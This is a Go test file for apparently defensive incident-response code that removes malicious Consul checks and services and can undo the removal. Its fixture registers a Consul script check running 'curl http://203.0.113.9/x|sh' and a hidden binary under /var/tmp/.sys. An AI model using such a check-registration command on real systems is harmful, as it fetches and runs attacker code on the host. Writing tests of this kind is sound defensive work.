package source

import (
	"crypto/sha256"
	"encoding/json"
	"fmt"
	"net/http"
	"os"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/minewarden/minewarden"
)

// consulServer keeps checks and services as the agent does, and their definitions in its data directory.
func consulServer(t *testing.T, root string, persist bool) (*product, string) {
	p := &product{state: map[string]any{"checks": map[string]any{}, "services": map[string]any{}}}
	const dir = "/opt/consul/data"
	if err := os.MkdirAll(root+dir+"/checks", 0o755); err != nil {
		t.Fatal(err)
	}
	file := func(id string) string { return fmt.Sprintf("%s%s/checks/%x", root, dir, sha256.Sum256([]byte(id))) }
	checks, services := p.state["checks"].(map[string]any), p.state["services"].(map[string]any)
	text := func(v any) string { s, _ := v.(string); return s }
	register := func(id, service string, def map[string]any) {
		kind := "http"
		if def["ScriptArgs"] != nil || def["Args"] != nil {
			kind = "script"
		}
		name := text(def["Name"])
		if name == "" {
			name = "Service '" + service + "' check"
		}
		checks[id] = map[string]any{"Node": "host1", "CheckID": id, "Name": name, "Status": "passing", "Notes": text(def["Notes"]), "Output": "", "ServiceID": service, "Type": kind, "Definition": map[string]any{}}
		if !persist {
			return
		}
		args := def["ScriptArgs"]
		if args == nil {
			args = def["Args"]
		}
		b, err := json.Marshal(map[string]any{
			"Check":   checks[id],
			"ChkType": map[string]any{"CheckID": "", "Name": "", "ScriptArgs": args, "HTTP": text(def["HTTP"]), "Interval": 10000000000., "Timeout": 0., "Shell": "", "TTL": 0., "Header": def["Header"]},
			"Token":   "persisted-token", "Source": "remote",
		})
		if err != nil {
			t.Error(err)
		}
		if err := os.WriteFile(file(id), b, 0o600); err != nil {
			t.Error(err)
		}
	}
	url := p.start(t, func(w http.ResponseWriter, r *http.Request, body map[string]any) {
		path := strings.TrimPrefix(r.URL.Path, "/v1/agent/")
		switch {
		case path == "self":
			answer(w, map[string]any{"DebugConfig": map[string]any{"DataDir": dir}})
		case path == "checks":
			answer(w, checks)
		case path == "check/register" && r.Method == http.MethodPut:
			id := text(body["ID"])
			if id == "" {
				id = text(body["Name"])
			}
			register(id, text(body["ServiceID"]), body)
		case path == "service/register" && r.Method == http.MethodPut:
			id := text(body["ID"])
			list, _ := body["Checks"].([]any)
			if c, ok := body["Check"].(map[string]any); ok {
				list = append(list, c)
			}
			for _, c := range list {
				c := c.(map[string]any)
				cid := text(c["CheckID"])
				if cid == "" {
					cid = "service:" + id
				}
				register(cid, id, c)
			}
			tags := body["Tags"]
			if tags == nil {
				tags = []any{}
			}
			services[id] = map[string]any{"ID": id, "Service": body["Name"], "Tags": tags, "Meta": map[string]any{}, "Port": body["Port"], "Address": body["Address"], "Weights": map[string]any{"Passing": 1., "Warning": 1.}, "EnableTagOverride": false, "ContentHash": "1edd", "Datacenter": "dc1"}
		case strings.HasPrefix(path, "service/deregister/") && r.Method == http.MethodPut:
			id := strings.TrimPrefix(path, "service/deregister/")
			if services[id] == nil {
				http.Error(w, "Unknown service ID", http.StatusNotFound)
				return
			}
			delete(services, id)
			for cid, c := range checks {
				if c.(map[string]any)["ServiceID"] == id {
					delete(checks, cid)
					os.Remove(file(cid))
				}
			}
		case strings.HasPrefix(path, "check/deregister/") && r.Method == http.MethodPut:
			id := strings.TrimPrefix(path, "check/deregister/")
			if checks[id] == nil {
				http.Error(w, "Unknown check ID", http.StatusNotFound)
				return
			}
			delete(checks, id)
			os.Remove(file(id))
		case strings.HasPrefix(path, "service/") && services[strings.TrimPrefix(path, "service/")] != nil:
			answer(w, services[strings.TrimPrefix(path, "service/")])
		default:
			http.Error(w, "unknown", http.StatusNotFound)
		}
	})
	put := func(path, body string) {
		req, err := http.NewRequestWithContext(t.Context(), http.MethodPut, url+"/v1/agent/"+path, strings.NewReader(body))
		if err != nil {
			t.Fatal(err)
		}
		resp, err := http.DefaultClient.Do(req)
		if err != nil || resp.StatusCode != http.StatusOK {
			t.Fatal(err, resp)
		}
		resp.Body.Close()
	}
	put("check/register", `{"ID":"evil","Name":"evil","ScriptArgs":["/bin/sh","-c","curl http://203.0.113.9/x|sh"],"Interval":"10s"}`)
	put("check/register", `{"ID":"disk","Name":"disk","ScriptArgs":["/usr/lib/nagios/check_disk","-w","10%"],"Interval":"10s"}`)
	put("service/register", `{"ID":"svc","Name":"svc","Address":"127.0.0.1","Port":80,"Tags":["a"],"Check":{"Args":["/var/tmp/.sys/run"],"Interval":"10s","Header":{"Authorization":["hunter2"]}}}`)
	put("service/register", `{"ID":"web","Name":"web","Port":8080,"Check":{"HTTP":"http://127.0.0.1/","Interval":"10s"}}`)
	return p, url
}

func fromConsul() minewarden.Incident {
	return lineage("systemd > consul > sh > run", minewarden.Member{Name: "run", Exe: "/var/tmp/.sys/run", Args: []string{"/var/tmp/.sys/run"}})
}

func TestConsul(t *testing.T) {
	root := t.TempDir()
	p, url := consulServer(t, root, true)
	r := newSource(t, root, t.TempDir(), func(c *Config) { c.Consul.URL = url })
	before := p.copy(t)
	files := func() map[string]string {
		out := map[string]string{}
		for k, v := range snapshot(t, root) {
			if strings.Contains(k, "/checks/") {
				_, out[k], _ = strings.Cut(v, "\n")
			}
		}
		return out
	}
	disk := files()
	todo, refused := plan(t, r, fromConsul())
	var names []string
	for _, a := range todo {
		names = append(names, a.Op+" "+a.Target.ID)
	}
	want := []string{"deregister-service consul check evil", "deregister-service consul check service:svc", "deregister-service consul service svc"}
	if diff := cmp.Diff(want, names); diff != "" || len(refused) > 0 {
		t.Fatalf("refused %q, plan:\n%s", refused, diff)
	}
	if s := fmt.Sprint(todo); strings.Contains(s, "hunter2") || strings.Contains(s, "persisted-token") {
		t.Errorf("a secret is shown: %s", s)
	}
	for _, a := range todo {
		receipt, err := r.Do(t.Context(), a)
		if err != nil || !receipt.OK {
			t.Fatal(err, receipt)
		}
		if cmp.Equal(before, p.copy(t)) {
			t.Errorf("%s did nothing", a.Target.ID)
		}
		if again, err := r.Do(t.Context(), a); err != nil || cmp.Diff(receipt, again) != "" {
			t.Errorf("Do again: %v", err)
		}
		for range 2 {
			if err := r.Undo(t.Context(), receipt); err != nil {
				t.Fatal(err)
			}
			if diff := cmp.Diff(before, p.copy(t)) + cmp.Diff(disk, files()); diff != "" {
				t.Errorf("%s undone:\n%s", a.Target.ID, diff)
			}
		}
	}
}

// TestConsulWithoutDefinitions leaves alone what could not be put back, and says so.
func TestConsulWithoutDefinitions(t *testing.T) {
	_, url := consulServer(t, t.TempDir(), false)
	r := newSource(t, t.TempDir(), t.TempDir(), func(c *Config) { c.Consul.URL = url })
	todo, refused := plan(t, r, fromConsul())
	if len(todo) > 0 || !strings.Contains(strings.Join(refused, "\n"), "could not be registered again") {
		t.Errorf("todo %v, refused %q", todo, refused)
	}
}
